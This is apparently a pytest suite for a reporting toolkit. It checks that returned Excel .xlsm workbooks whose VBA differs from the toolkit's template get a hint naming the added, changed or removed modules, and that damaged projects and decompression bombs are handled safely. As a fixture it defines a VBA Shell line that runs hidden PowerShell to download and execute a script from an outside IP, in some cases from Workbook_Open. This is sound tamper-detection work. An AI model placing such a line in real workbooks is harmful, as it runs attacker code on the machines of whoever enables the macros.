"""Returned .xlsm workbooks whose VBA differs from the toolkit's own get a 提示 naming the modules.

The tampered workbooks are real files: the toolkit's .xlsm, filled as a unit would, with its VBA
project rebuilt by the project's own writer (toolkit.io.vba) from modified sources; one is re-saved by
LibreOffice, which rewrites the whole project.  The reader's decoding is cross-checked with olevba."""
import random
import struct
import zipfile
from io import BytesIO
from pathlib import Path

import olefile
import openpyxl
import pytest
import xlwings
from oletools.olevba import VBA_Parser

from conftest import fill_workbook, run_libreoffice
from test_consolidate import run
from toolkit.core.model import HINT
from toolkit.io.vba.cfb import Storage, write_compound_file
from toolkit.io.vba.compression import CHUNK, DecompressionError, compress, decompress
from toolkit.io.vba.inspect import (AUTO_RUN_LISTED, MAX_SOURCE_BYTES, FoundModule, UnreadableProject,
                                 auto_run_procedures, code_lines, compare, read_modules)
from toolkit.io.vba.own_project import macro_modules, project_modules, vba_project_bin
from toolkit.io.vba.project import (DOCUMENT, MODULE, VBA_PROJECT_STREAM, WORKBOOK_BASE, WORKSHEET_BASE, Module,
                                 dir_stream, document_module, vba_project)
from toolkit.io.workbook.package import reproducible
from toolkit.io.workbook.reader import READ_CODES, read_workbook
from workbooks import CONSISTENT_2021, entries, info_of

VBA_CODES = ("R-VBA-CHANGED", "R-VBA-UNREADABLE", "R-VBA-IN-XLSX", "R-MACRO-SHEET", "R-EMBEDDED")
QUICKSTART = Path(xlwings.__file__).parent / "quickstart.xlsm"  # saved by Excel: p-code before the sources
SHELL_LINE = '    Shell "cmd.exe /c powershell -w hidden -c iwr http://198.51.100.7/a.ps1 | iex"'


def _replace(modules: list[Module], name: str, source: str) -> list[Module]:
    return [Module(m.name, m.kind, source) if m.name == name else m for m in modules]


def _source(modules: list[Module], name: str) -> str:
    return next(m.source for m in modules if m.name == name)


def _with_project(filled: Path, target: Path, project: bytes | None, extra: dict | None = None) -> Path:
    parts = {"xl/vbaProject.bin": project} if project is not None else {}
    target.write_bytes(reproducible(filled.read_bytes(), {**parts, **(extra or {})}))
    return target


def _vba_findings(path: Path) -> list:
    return [f for f in read_workbook(path).findings if f.code in VBA_CODES]


@pytest.fixture(scope="module")
def books(tmp_path_factory, macro_templates) -> dict[str, Path]:
    """The workbooks, each named after what was done to its macros."""
    folder = tmp_path_factory.mktemp("vba")
    filled = fill_workbook(macro_templates["2021"], folder / "xlsm-unchanged.xlsm", entries(CONSISTENT_2021),
                           info_of(CONSISTENT_2021), CONSISTENT_2021.texts)
    sheets = len(openpyxl.load_workbook(filled, read_only=True).sheetnames)
    ours = project_modules(sheets)
    books = {"unchanged": filled}

    def build(name, modules, suffix=".xlsm", **kw):
        books[name] = _with_project(filled, folder / f"{name}{suffix}", vba_project(modules), **kw)

    buttons = _source(ours, "XxgkButtons")
    build("xxgkbuttons-shell-added", _replace(ours, "XxgkButtons", buttons.replace(
        "Sub XxgkCheck()\r\n", f"Sub XxgkCheck()\r\n{SHELL_LINE}\r\n")))
    build("module-added-with-workbook-open", ours + [Module("Module1", MODULE, (
        'Attribute VB_Name = "Module1"\r\nPublic Sub Workbook_Open()\r\n' + SHELL_LINE + "\r\nEnd Sub\r\n"))])
    this_workbook = _source(ours, "ThisWorkbook")
    build("thisworkbook-with-workbook-open", _replace(ours, "ThisWorkbook", this_workbook + (
        "Private Sub Workbook_Open()\r\n" + SHELL_LINE + "\r\nEnd Sub\r\n")))
    build("dictionary-removed", [m for m in ours if m.name != "Dictionary"])
    build("xxgkbuttons-string-recased", _replace(ours, "XxgkButtons", buttons.replace(
        "xx.check()", "XX.CHECK()")))
    build("comment-changed-only", _replace(ours, "XxgkButtons", buttons.replace(
        "' The buttons of the xxgk-toolkit workbook", "' The buttons of the workbook")))
    # What Excel and the VBA editor do without anyone touching the code: localised and renamed code
    # names, a new sheet's module with Option Explicit, attributes reordered or dropped, CRLF turned
    # to LF, trailing blanks, keywords and identifiers re-cased, spacing between tokens changed.
    dictionary = _source(ours, "Dictionary").splitlines(keepends=True)
    dictionary[2], dictionary[3] = dictionary[3], dictionary[2]
    dictionary = [line for line in dictionary if ".VB_Description" not in line]
    as_office = [document_module("DieseArbeitsmappe", WORKBOOK_BASE)]
    as_office += [document_module(f"Tabelle{i}", WORKSHEET_BASE) for i in range(1, sheets + 1)]
    new_sheet = document_module("Tabelle99", WORKSHEET_BASE)
    as_office.append(Module(new_sheet.name, DOCUMENT, new_sheet.source + "Option Explicit\r\n\r\n"))
    as_office += _replace(_replace(_replace(macro_modules(), "Dictionary", "".join(dictionary)),
                                   "xlwings", _source(ours, "xlwings").replace("\r\n", "\n").replace("End Sub", "end sub")),
                          "XxgkButtons", buttons.replace("RunPython \"", "RunPython   \"").replace("\r\n", "  \r\n")
                          + "\r\n\r\n")
    build("saved-as-office-does", list(reversed(as_office)))
    damaged = bytearray(vba_project_bin(sheets))
    damaged[len(damaged) // 2:len(damaged) // 2 + 4096] = bytes(4096)
    books["vba-project-damaged"] = _with_project(filled, folder / "vba-project-damaged.xlsm", bytes(damaged))
    # a project whose bytes hold "<!DOCTYPE" (as a macro's string literal does in Excel's p-code): an
    # unused sector after ours, the code unchanged
    sector = b"<!DOCTYPE html>".ljust(512, b"\0")
    books["vba-project-holding-doctype-bytes"] = _with_project(
        filled, folder / "vba-project-holding-doctype-bytes.xlsm", vba_project_bin(sheets) + sector)
    # the project moved to another part, named by the workbook's relationship, ours left in place
    moved = folder / "vba-project-moved.xlsm"
    with zipfile.ZipFile(filled) as z:
        rels = z.read("xl/_rels/workbook.xml.rels").replace(b'Target="vbaProject.bin"', b'Target="macros.bin"')
    books["vba-project-moved"] = _with_project(filled, moved, None, {
        "xl/_rels/workbook.xml.rels": rels,
        "xl/macros.bin": vba_project(_replace(ours, "XxgkButtons", buttons + "Sub Auto_Open()\r\nEnd Sub\r\n"))})
    books["xlsx-with-vba-project"] = _with_project(filled, folder / "xlsx-with-vba-project.xlsx", None)
    books["embedded-ole-object"] = _with_project(filled, folder / "embedded-ole-object.xlsm", None, {
        "xl/embeddings/oleObject1.bin": write_compound_file(Storage({"\x01Ole10Native": b"MZ" + bytes(100)}))})
    books["excel4-macro-sheet"] = _with_project(filled, folder / "excel4-macro-sheet.xlsm", None, {
        "xl/macrosheets/sheet1.xml": '<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"/>'})
    books["vba-project-corrupt-in-the-zip"] = _corrupt_in_zip(filled, folder / "vba-project-corrupt-in-the-zip.xlsm",
                                                               "xl/vbaProject.bin")
    run_libreoffice([{"op": "resave", "in": str(filled), "out": str(folder / "resaved-by-libreoffice.xlsm")}])
    books["resaved-by-libreoffice"] = folder / "resaved-by-libreoffice.xlsm"
    return books


def _corrupt_in_zip(source: Path, target: Path, part: str) -> Path:
    """A copy with one part stored uncompressed and one of its bytes changed: its CRC fails."""
    with zipfile.ZipFile(source) as src, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            dst.writestr(info.filename, src.read(info.filename),
                         zipfile.ZIP_STORED if info.filename == part else zipfile.ZIP_DEFLATED)
        body = src.read(part)
    data = bytearray(target.read_bytes())
    at = data.index(body) + len(body) // 2
    data[at] ^= 0xFF
    target.write_bytes(bytes(data))
    return target


def _project(path: Path) -> bytes:
    with zipfile.ZipFile(path) as z:
        return z.read("xl/vbaProject.bin")


# --- the workbooks --------------------------------------------------------------------------------

def test_the_toolkits_own_workbook_filled_by_a_unit_has_no_finding_and_takes_the_fast_path(books):
    sheets = len(openpyxl.load_workbook(books["unchanged"], read_only=True).sheetnames)
    assert _project(books["unchanged"]) == vba_project_bin(sheets)  # openpyxl kept the project's bytes
    assert _vba_findings(books["unchanged"]) == []


def test_libreoffice_rewrites_the_project_and_the_unchanged_code_still_gives_no_finding(books):
    resaved, ours = books["resaved-by-libreoffice"], books["unchanged"]
    assert _project(resaved) != _project(ours)
    found = {m.name: m for m in read_modules(_project(resaved))}
    mine = {m.name: m for m in read_modules(_project(ours))}
    assert set(found) == set(mine)
    # What LibreOffice changes (documented in the README): every module gets one more line end, the
    # class module's attributes become "Option ClassModule", its procedure attributes are dropped.
    assert found["XxgkButtons"].source == mine["XxgkButtons"].source + "\r\n"
    assert "Option ClassModule" in found["Dictionary"].source
    assert "Attribute Item.VB_UserMemId" in mine["Dictionary"].source
    assert "Attribute Item.VB_UserMemId" not in found["Dictionary"].source
    assert _vba_findings(resaved) == []
    assert not compare(list(found.values()), macro_modules())


def test_the_changes_office_makes_without_touching_the_code_give_no_finding(books):
    found = {m.name: m for m in read_modules(_project(books["saved-as-office-does"]))}
    assert "Tabelle99" in found and "ThisWorkbook" not in found and "\r\n" not in found["xlwings"].source
    assert _vba_findings(books["saved-as-office-does"]) == []


def _one(path: Path):
    findings = _vba_findings(path)
    assert len(findings) == 1, findings
    assert findings[0].severity == HINT and READ_CODES[findings[0].code] == HINT
    return findings[0]


def test_doctype_bytes_in_a_binary_part_are_data_not_a_dtd(books):
    """The intake refuses a DTD in XML parts only: the project is read, its code is ours."""
    assert _vba_findings(books["vba-project-holding-doctype-bytes"]) == []


def test_a_shell_call_added_to_our_module_names_the_module(books):
    f = _one(books["xxgkbuttons-shell-added"])
    assert f.code == "R-VBA-CHANGED"
    assert f.message.startswith("工作簿中的宏（VBA）与本工具模板不同：修改了 XxgkButtons。")
    assert "请勿在 Excel 中启用宏，先向报送单位核实" in f.message and "自动运行" not in f.message


def test_an_added_module_with_workbook_open_is_named_with_its_auto_run_macro(books):
    f = _one(books["module-added-with-workbook-open"])
    assert "新增了 Module1" in f.message and "修改了" not in f.message
    assert "其中 Module1 含有 Workbook_Open，这些宏在启用宏后会自动运行" in f.message


def test_code_in_thisworkbook_is_a_change_whatever_the_code_name(books):
    f = _one(books["thisworkbook-with-workbook-open"])
    assert "修改了 ThisWorkbook" in f.message and "Workbook_Open" in f.message


def test_a_removed_module_is_named(books):
    f = _one(books["dictionary-removed"])
    assert "删除了 Dictionary" in f.message and "修改了" not in f.message


def test_string_literals_and_comments_are_compared_exactly(books):
    assert "修改了 XxgkButtons" in _one(books["xxgkbuttons-string-recased"]).message
    assert "修改了 XxgkButtons" in _one(books["comment-changed-only"]).message


def test_a_damaged_project_is_a_hint_that_it_cannot_be_read(books):
    f = _one(books["vba-project-damaged"])
    assert f.code == "R-VBA-UNREADABLE"
    assert f.message.startswith("工作簿中的宏（VBA 工程）无法读取（") and "请勿在 Excel 中启用宏" in f.message
    result = read_workbook(books["vba-project-damaged"])  # the figures are read as usual
    assert result.report.values["t3.new.natural"] == CONSISTENT_2021.values["t3.new.natural"]


def test_a_project_damaged_in_the_zip_is_a_hint_and_the_figures_are_read(books):
    f = _one(books["vba-project-corrupt-in-the-zip"])
    assert f.code == "R-VBA-UNREADABLE" and "文件中的这一部分已损坏" in f.message
    assert read_workbook(books["vba-project-corrupt-in-the-zip"]).report.unit == CONSISTENT_2021.unit


def test_an_excel_4_macro_sheet_is_flagged(books):
    f = _one(books["excel4-macro-sheet"])
    assert f.code == "R-MACRO-SHEET" and "xl/macrosheets/sheet1.xml" in f.message


def test_the_project_excel_loads_is_the_one_the_relationship_names(books):
    f = _one(books["vba-project-moved"])
    assert "修改了 XxgkButtons" in f.message and "Auto_Open" in f.message


def test_a_vba_project_inside_an_xlsx_is_flagged(books):
    codes = [f.code for f in _vba_findings(books["xlsx-with-vba-project"])]
    assert codes == ["R-VBA-IN-XLSX"]  # the project itself is ours


def test_an_embedded_object_is_flagged(books):
    f = _one(books["embedded-ole-object"])
    assert f.code == "R-EMBEDDED" and "xl/embeddings/oleObject1.bin" in f.message


def test_a_plain_xlsx_has_no_finding(templates):
    assert _vba_findings(templates["2021"]) == []


# --- reaching the users: check and consolidate ---------------------------------------------------------

def test_xxgk_check_shows_the_hint_and_exits_as_for_any_hint(books):
    done = run("check", books["module-added-with-workbook-open"])
    assert done.returncode == 0, done.stdout + done.stderr
    assert "R-VBA-CHANGED" in done.stdout and "新增了 Module1" in done.stdout.replace("\n", "")


def test_xxgk_consolidate_sums_the_file_and_lists_the_hint_for_its_unit(books, tmp_path):
    sent = tmp_path / "sent"
    sent.mkdir()
    fill_workbook(books["unchanged"], sent / "东河镇.xlsm", info={"info.unit": "东河镇"})
    tampered = fill_workbook(books["xxgkbuttons-shell-added"], sent / "西山乡.xlsm", info={"info.unit": "西山乡"})
    assert _project(tampered) == _project(books["xxgkbuttons-shell-added"])  # openpyxl kept it as it was
    out = tmp_path / "某县汇总.xlsx"
    done = run("consolidate", sent, "--year", CONSISTENT_2021.year, "-o", out, "--unit", "某县")
    assert done.returncode == 0, done.stdout + done.stderr
    assert "宏或嵌入对象与本工具模板不同的文件" in done.stdout and "西山乡.xlsm（西山乡）" in done.stdout
    wb = openpyxl.load_workbook(out, read_only=True)
    rows = [r for r in wb["报送情况"].iter_rows(values_only=True) if r and r[1] in ("东河镇.xlsm", "西山乡.xlsm")]
    notes = {r[1]: (r[6], r[7] or "") for r in rows}
    assert notes["西山乡.xlsm"][0] == "已汇总" and "修改了 XxgkButtons" in notes["西山乡.xlsm"][1]
    assert notes["东河镇.xlsm"][0] == "已汇总" and "宏" not in notes["东河镇.xlsm"][1]
    findings = [r for r in wb["校验结果"].iter_rows(values_only=True) if r and r[2] in VBA_CODES]
    assert [(r[0], r[1], r[2], r[3]) for r in findings] == [("西山乡", "西山乡.xlsm", "R-VBA-CHANGED", "提示")]


# --- reading projects: cross-checked with olevba ------------------------------------------------------

def _olevba(path_or_bytes, name="x.xlsm") -> dict[str, str]:
    parser = VBA_Parser(name, data=path_or_bytes) if isinstance(path_or_bytes, bytes) else VBA_Parser(str(path_or_bytes))
    return {stream.split("/")[-1]: code for _, stream, _, code in parser.extract_macros()}


@pytest.mark.parametrize("name", ["unchanged", "resaved-by-libreoffice", "saved-as-office-does",
                                  "module-added-with-workbook-open"])
def test_modules_read_as_olevba_reads_them(books, name):
    found = read_modules(_project(books[name]))
    assert {m.name: m.source for m in found} == _olevba(books[name])


def test_a_project_saved_by_excel_with_p_code_is_read_from_its_source_offsets():
    found = read_modules(_project(QUICKSTART))
    assert {m.name: m.source for m in found} == _olevba(QUICKSTART)
    assert [(m.name, m.kind) for m in found] == [("ThisWorkbook", "document"), ("Sheet1", "document"),
                                                 ("Module1", "module"), ("Sheet2", "document")]
    assert "RunPython" in found[2].source
    diff = compare(found, macro_modules())
    assert (diff.changed, diff.added, diff.removed) == ([], ["Module1"], ["XxgkButtons", "xlwings", "Dictionary"])


# --- hostile project bytes ------------------------------------------------------------------------

def _dir_without(data: bytes, record: int) -> bytes:
    """Our project with one kind of dir record left out."""
    ole = olefile.OleFileIO(BytesIO(data))
    raw = decompress(ole.openstream("VBA/dir").read())
    out, position = bytearray(), 0
    while position < len(raw):
        rid, size = struct.unpack_from("<HI", raw, position)
        size = 6 if rid == 0x0009 else size
        if rid != record:
            out += raw[position:position + 6 + size]
        position += 6 + size
    return bytes(out)


def _project_with(dir_data: bytes | None = None, module: bytes | None = None, drop: str | None = None) -> bytes:
    ole = olefile.OleFileIO(BytesIO(vba_project_bin(1)))
    vba = Storage({name: ole.openstream(f"VBA/{name}").read()
                   for name in ("_VBA_PROJECT", "dir", "ThisWorkbook", "Sheet1", "XxgkButtons", "xlwings", "Dictionary")})
    if dir_data is not None:
        vba.entries["dir"] = compress(dir_data)
    if module is not None:
        vba.entries["XxgkButtons"] = module
    if drop:
        del vba.entries[drop]
    return write_compound_file(Storage({"PROJECT": ole.openstream("PROJECT").read(), "VBA": vba}))


def _bomb() -> bytes:
    chunk = compress(b"a" * CHUNK)[1:]  # one chunk of 4096 bytes in a dozen
    return b"\x01" + chunk * (MAX_SOURCE_BYTES // CHUNK + 10)


def _many_modules_past_the_total_limit() -> bytes:
    """70 modules of 250 KB each, all with the same compressed bytes (read once, then cached)."""
    modules = [Module(f"M{i}", MODULE, "") for i in range(70)]
    source = compress((b"' " + b"x" * 98 + b"\r\n") * 2500)
    vba = Storage({"_VBA_PROJECT": VBA_PROJECT_STREAM, "dir": compress(dir_stream(modules)),
                   **{m.name: source for m in modules}})
    return write_compound_file(Storage({"VBA": vba}))


DAMAGED = {
    "empty": lambda: b"",
    "a path, not a project (olefile would open it as a file name)": lambda: b"/etc/hostname",
    "random bytes": lambda: random.Random(1).randbytes(5000),
    "cut in half": lambda: vba_project_bin(1)[:len(vba_project_bin(1)) // 2],
    "no dir stream": lambda: _project_with(drop="dir"),
    "a module stream missing": lambda: _project_with(drop="XxgkButtons"),
    "dir without its terminator": lambda: _project_with(_dir_without(vba_project_bin(1), 0x0010)),
    "dir without module types": lambda: _project_with(_dir_without(vba_project_bin(1), 0x0021)),
    "dir module count wrong": lambda: _project_with(_count_changed()),
    "module source garbled": lambda: _project_with(module=b"\x01\xff\xff\xff\xff"),
    "copy token before its chunk": lambda: _project_with(module=b"\x01" + (0xB002).to_bytes(2, "little") + b"\x01\xff\xff"),
    "a source that expands past the limit": lambda: _project_with(module=_bomb()),
    "sources that expand past the limit together": _many_modules_past_the_total_limit,
}


def _count_changed() -> bytes:
    ole = olefile.OleFileIO(BytesIO(vba_project_bin(1)))
    raw = bytearray(decompress(ole.openstream("VBA/dir").read()))
    at = raw.index(struct.pack("<HIH", 0x000F, 2, 5))  # PROJECTMODULES: 5 modules
    raw[at + 6:at + 8] = struct.pack("<H", 9)
    return bytes(raw)


@pytest.mark.parametrize("damage", list(DAMAGED))
def test_damaged_projects_are_unreadable_not_a_traceback(damage):
    with pytest.raises(UnreadableProject):
        read_modules(DAMAGED[damage]())


def test_byte_flips_anywhere_in_a_project_never_escape_as_another_exception():
    data = vba_project_bin(8)
    rng = random.Random(6)
    outcomes = {"read": 0, "unreadable": 0}
    for _ in range(300):
        flipped = bytearray(data)
        for _ in range(rng.randint(1, 8)):
            flipped[rng.randrange(len(flipped))] = rng.randrange(256)
        try:
            read_modules(bytes(flipped))
            outcomes["read"] += 1
        except UnreadableProject:
            outcomes["unreadable"] += 1
    assert outcomes["read"] and outcomes["unreadable"]


# --- decompression and normalising --------------------------------------------------------------------

def test_decompression_refuses_a_chunk_of_more_than_4096_bytes_and_output_past_its_limit():
    # a chunk of copy tokens that would expand to more than a chunk holds
    overfull = b"\x01" + (0xB000 | (2 + 1 + 1 + 2 * 3 - 3)).to_bytes(2, "little") + b"\x0e" + b"a" + b"\xff\x0f" * 3
    with pytest.raises(DecompressionError, match="more than 4096"):
        decompress(overfull)
    with pytest.raises(DecompressionError, match="more than 100 bytes"):
        decompress(compress(b"x" * 5000), limit=100)
    assert decompress(compress(b"x" * 5000), limit=5000) == b"x" * 5000


@pytest.mark.parametrize("seed", range(5))
def test_decompression_round_trips_text_with_overlapping_copies(seed):
    rng = random.Random(seed)
    words = [b"Sub ", b"End Sub\r\n", b"    x = x + 1\r\n", b"aaaa", b"ab", b"\r\n", bytes([rng.randrange(256)])]
    data = b"".join(rng.choice(words) for _ in range(rng.randint(100, 6000)))
    assert decompress(compress(data)) == data


def test_code_lines_keep_strings_and_comments_and_ignore_what_office_changes():
    ours = 'Attribute VB_Name = "M"\r\nSub A()\r\n    x = "Ab  C" \' Note\r\nEnd Sub\r\n'
    same = 'Attribute VB_Name = "M"\nAttribute A.VB_Description = "d"\nsub a ( )\n  X="Ab  C"   \' Note  \n\nEND SUB\n\n'
    assert code_lines(ours) == code_lines(same)
    for changed in ('x = "ab  C"', "x = \"Ab  C\" ' note", 'x = "Ab C"', 'y = "Ab  C"', "x = &H1", "x = & H1"):
        assert code_lines(ours) != code_lines(ours.replace('x = "Ab  C" \' Note', changed))
    assert code_lines("x = a &H1") != code_lines("x = a & H1")


def test_auto_run_procedures_are_found_and_button_handlers_are_not():
    source = ("Private Sub Workbook_Open()\r\nEnd Sub\r\nSub auto_open()\r\nEnd Sub\r\n"
              "Public Static Function Frame1_Layout()\r\nEnd Function\r\nSub CommandButton1_Click()\r\nEnd Sub\r\n"
              "Sub XxgkCheck()\r\nEnd Sub\r\n")
    assert auto_run_procedures(source) == ["Workbook_Open", "auto_open", "Frame1_Layout"]
    assert all(auto_run_procedures(m.source) == [] for m in macro_modules())


def test_hostile_sources_of_the_largest_size_are_compared_without_blowing_up():
    # Millions of blank lines once made a multi-line pattern quadratic; millions of short lines made
    # a list of millions of strings.  Either would hang this test or take gigabytes.
    blank = "\r\n" * (MAX_SOURCE_BYTES // 2 - 100_000) + "x = 1\r\n" + "Sub Workbook_Open()\r\n" * 4000
    short = "a\r\n" * (MAX_SOURCE_BYTES // 3)
    found = [FoundModule("XxgkButtons", MODULE, blank), FoundModule("Module1", MODULE, short),
             FoundModule("ThisWorkbook", DOCUMENT, short)]
    diff = compare(found, macro_modules())
    assert diff.changed == ["XxgkButtons", "ThisWorkbook"] and diff.added == ["Module1"]
    assert diff.auto_run == {"XxgkButtons": ["Workbook_Open"] * AUTO_RUN_LISTED}
